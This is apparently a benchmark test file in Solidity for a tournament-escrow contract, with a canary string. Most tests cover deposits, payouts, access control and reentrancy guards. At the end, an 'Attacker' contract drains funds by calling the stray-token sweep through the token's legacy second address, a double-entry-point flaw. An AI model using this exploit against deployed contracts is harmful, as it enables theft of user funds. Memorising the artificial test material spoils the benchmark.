// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {FormerCoin} from "./context/LeagueCoin.sol";
import "./TournamentHouse.sol";

// assay-canary-aeafe7ea-32a8-44b1-b5e8-612d84c3afeb

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

// A coin that calls somebody back while it moves.
contract CallingCoin is ERC20 {
    address private taker;
    bytes private data;

    constructor() ERC20("Calling", "CALL") {
        _mint(msg.sender, 100e18);
    }

    function callBack(address to, bytes calldata what) external {
        taker = to;
        data = what;
    }

    function _update(address from, address to, uint256 amount) internal override {
        super._update(from, to, amount);
        if (taker == address(0)) return;
        (bool done, bytes memory answer) = taker.call(data);
        if (!done) {
            assembly {
                revert(add(answer, 32), mload(answer))
            }
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    address private constant REFEREE = address(0x4EF);
    address private constant TREASURY = address(0x74EA);
    uint256 private constant START = 1_700_000_000;

    LeagueCoin public coin;
    FormerCoin private former;
    TournamentHouse private house;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        coin = new LeagueCoin(address(this), 100_000e18);
        former = new FormerCoin(coin);
        coin.setFormer(address(former));
        house = new TournamentHouse(coin, TREASURY, address(this));
        house.setReferee(REFEREE, true);
        deposit(ANA, 6_000e18);
        deposit(BEN, 4_000e18);
        vm.prank(REFEREE);
        house.open(coin, 100e18, 2, uint64(START + 10 days));
        mallory = new Attacker(house, former);
    }

    function deposit(address who, uint256 amount) private {
        coin.transfer(who, amount);
        vm.startPrank(who);
        coin.approve(address(house), amount);
        house.deposit(coin, amount);
        vm.stopPrank();
    }

    function enter(address who, uint256 id) private {
        vm.prank(who);
        house.enter(id);
    }

    function booked() private view returns (uint256) {
        return house.currencyAt(coin).booked;
    }

    function test_Regular() public {
        require(booked() == 10_000e18 && house.balanceOf(ANA, coin) == 6_000e18, "deposited");
        enter(ANA, 0);
        enter(BEN, 0);
        vm.prank(BEN);
        house.leave(0);
        require(house.balanceOf(BEN, coin) == 4_000e18 && house.tournamentAt(0).taken == 1, "left");
        enter(BEN, 0);
        vm.prank(REFEREE);
        require(house.open(coin, 50e18, 3, uint64(START + 12 days)) == 1, "second");
        enter(BEN, 1);
        vm.warp(START + 10 days);
        vm.prank(REFEREE);
        house.decide(0, BEN);
        require(house.balanceOf(BEN, coin) == 4_042e18 && house.balanceOf(TREASURY, coin) == 8e18, "decided");
        vm.warp(START + 19 days + 1);
        house.abandon(1);
        vm.prank(BEN);
        house.takeBack(1);
        require(house.balanceOf(BEN, coin) == 4_092e18 && booked() == 10_000e18, "abandoned");

        // coins that were sent without a deposit, at either address of the coin
        coin.transfer(address(house), 60e18);
        former.transfer(address(house), 40e18);
        vm.prank(CAT);
        house.collectStray(coin);
        require(coin.balanceOf(CAT) == 5e18 && coin.balanceOf(TREASURY) == 95e18, "found");
        house.halt(coin, true);
        vm.prank(BEN);
        house.withdraw(coin, CAT, 4_092e18);
        house.halt(coin, false);
        require(coin.balanceOf(CAT) == 4_097e18 && booked() == 5_908e18, "withdrawn");
        require(coin.balanceOf(address(house)) == 5_908e18, "books are right");
        CallingCoin other = new CallingCoin();
        house.list(other);
        other.approve(address(house), 10e18);
        house.deposit(other, 10e18);
        house.withdraw(other, BEN, 10e18);
        require(other.balanceOf(BEN) == 10e18, "another currency");
        house.setTreasury(CAT);
        house.setReferee(REFEREE, false);
        house.transferOwnership(ANA);
        vm.prank(ANA);
        house.renounceOwnership();
    }

    function expect(bytes memory reason) private {
        vm.expectRevert(reason);
    }

    function test_RefusesOwners() public {
        expect(abi.encodeWithSelector(HouseAccounts.NoAccount.selector));
        new TournamentHouse(coin, address(0), ANA);
        expect(abi.encodeWithSelector(HouseAccounts.NoAccount.selector));
        house.setTreasury(address(0));
        expect(abi.encodeWithSelector(HouseAccounts.AlreadyListed.selector, coin));
        house.list(coin);
        expect(abi.encodeWithSelector(HouseAccounts.NotListed.selector, former));
        house.halt(former, true);
    }

    function test_RefusesStrangers() public {
        bytes memory denied = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, CAT);
        vm.startPrank(CAT);
        expect(denied);
        house.list(IERC20(address(1)));
        expect(denied);
        house.halt(coin, true);
        expect(denied);
        house.setTreasury(CAT);
        expect(denied);
        house.setReferee(CAT, true);
        expect(abi.encodeWithSelector(TournamentHouse.NotReferee.selector, CAT));
        house.open(coin, 1, 2, uint64(START + 1));
        vm.warp(START + 10 days);
        expect(abi.encodeWithSelector(TournamentHouse.NotReferee.selector, CAT));
        house.decide(0, CAT);
        vm.stopPrank();
    }

    function test_RefusesAccounts() public {
        vm.startPrank(ANA);
        expect(abi.encodeWithSelector(HouseAccounts.NotOpen.selector, former));
        house.deposit(former, 0);
        expect(abi.encodeWithSelector(HouseAccounts.Short.selector, 6_000e18, 6_000e18 + 1));
        house.withdraw(coin, ANA, 6_000e18 + 1);
        expect(abi.encodeWithSelector(HouseAccounts.NothingFound.selector, coin));
        house.collectStray(coin);
        vm.stopPrank();
        coin.transfer(address(house), 1e18);
        house.halt(coin, true);
        expect(abi.encodeWithSelector(HouseAccounts.NothingFound.selector, coin));
        house.collectStray(coin);
        expect(abi.encodeWithSelector(HouseAccounts.NotOpen.selector, coin));
        house.deposit(coin, 0);
        vm.prank(REFEREE);
        expect(abi.encodeWithSelector(HouseAccounts.NotOpen.selector, coin));
        house.open(coin, 1, 2, uint64(START + 1));
    }

    function test_RefusesReferees() public {
        vm.startPrank(REFEREE);
        expect(abi.encodeWithSelector(TournamentHouse.BadTournament.selector));
        house.open(coin, 1, 1, uint64(START + 1));
        expect(abi.encodeWithSelector(TournamentHouse.BadTournament.selector));
        house.open(coin, 1, 2, uint64(START));
        expect(abi.encodeWithSelector(TournamentHouse.BadTournament.selector));
        house.open(coin, 1, 2, uint64(START + 365 days + 1));
        expect(abi.encodeWithSelector(TournamentHouse.NoSuchTournament.selector, 1));
        house.decide(1, ANA);
        expect(abi.encodeWithSelector(TournamentHouse.NotBegun.selector, START + 10 days));
        house.decide(0, ANA);
        vm.stopPrank();
        enter(ANA, 0);
        vm.warp(START + 10 days);
        vm.startPrank(REFEREE);
        expect(abi.encodeWithSelector(TournamentHouse.NotEntered.selector, 0, BEN));
        house.decide(0, BEN);
        house.decide(0, ANA);
        expect(abi.encodeWithSelector(TournamentHouse.NotRunning.selector, 0));
        house.decide(0, ANA);
        vm.warp(START + 20 days);
        expect(abi.encodeWithSelector(TournamentHouse.NotRunning.selector, 0));
        house.abandon(0);
        vm.stopPrank();
    }

    function test_RefusesPlayers() public {
        vm.startPrank(CAT);
        expect(abi.encodeWithSelector(HouseAccounts.Short.selector, 0, 100e18));
        house.enter(0);
        expect(abi.encodeWithSelector(TournamentHouse.NotEntered.selector, 0, CAT));
        house.leave(0);
        expect(abi.encodeWithSelector(TournamentHouse.NoSuchTournament.selector, 1));
        house.enter(1);
        vm.stopPrank();
        enter(ANA, 0);
        expect(abi.encodeWithSelector(TournamentHouse.AlreadyEntered.selector, 0, ANA));
        enter(ANA, 0);
        enter(BEN, 0);
        deposit(CAT, 100e18);
        expect(abi.encodeWithSelector(TournamentHouse.Full.selector, 0));
        enter(CAT, 0);
        vm.startPrank(BEN);
        expect(abi.encodeWithSelector(TournamentHouse.NotAbandoned.selector, 0));
        house.takeBack(0);
        house.leave(0);
        vm.warp(START + 10 days);
        expect(abi.encodeWithSelector(TournamentHouse.Begun.selector, START + 10 days));
        house.enter(0);
        vm.stopPrank();
        vm.startPrank(ANA);
        expect(abi.encodeWithSelector(TournamentHouse.Begun.selector, START + 10 days));
        house.leave(0);
        vm.warp(START + 17 days);
        expect(abi.encodeWithSelector(TournamentHouse.StillToReport.selector, START + 17 days));
        house.abandon(0);
        vm.stopPrank();
    }

    function test_RefusesAgain() public {
        CallingCoin calling = new CallingCoin();
        house.list(calling);
        calling.approve(address(house), 20e18);
        house.deposit(calling, 10e18);
        bytes memory again = abi.encodeWithSelector(ReentrancyGuard.ReentrancyGuardReentrantCall.selector);
        calling.callBack(address(house), abi.encodeCall(house.collectStray, (calling)));
        expect(again);
        house.deposit(calling, 10e18);
        calling.callBack(address(house), abi.encodeCall(house.deposit, (calling, 0)));
        expect(again);
        house.withdraw(calling, BEN, 1e18);
        calling.callBack(address(house), abi.encodeCall(house.withdraw, (calling, BEN, 0)));
        expect(again);
        house.withdraw(calling, BEN, 1e18);
    }

    function test_RefusesFormers() public {
        expect(abi.encodeWithSelector(LeagueCoin.AlreadySet.selector, former));
        coin.setFormer(CAT);
        vm.startPrank(CAT);
        expect(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, CAT));
        coin.setFormer(CAT);
        bytes memory why = abi.encodeWithSelector(LeagueCoin.NotFormer.selector, CAT);
        expect(why);
        coin.transferFor(ANA, CAT, 0);
        expect(why);
        coin.transferFromFor(CAT, ANA, CAT, 0);
        expect(why);
        coin.approveFor(ANA, CAT, 1);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) >= 500e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(house);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    TournamentHouse private house;
    FormerCoin private former;

    constructor(TournamentHouse h, FormerCoin f) {
        house = h;
        former = f;
    }

    function run() external {
        house.collectStray(former);
    }
}
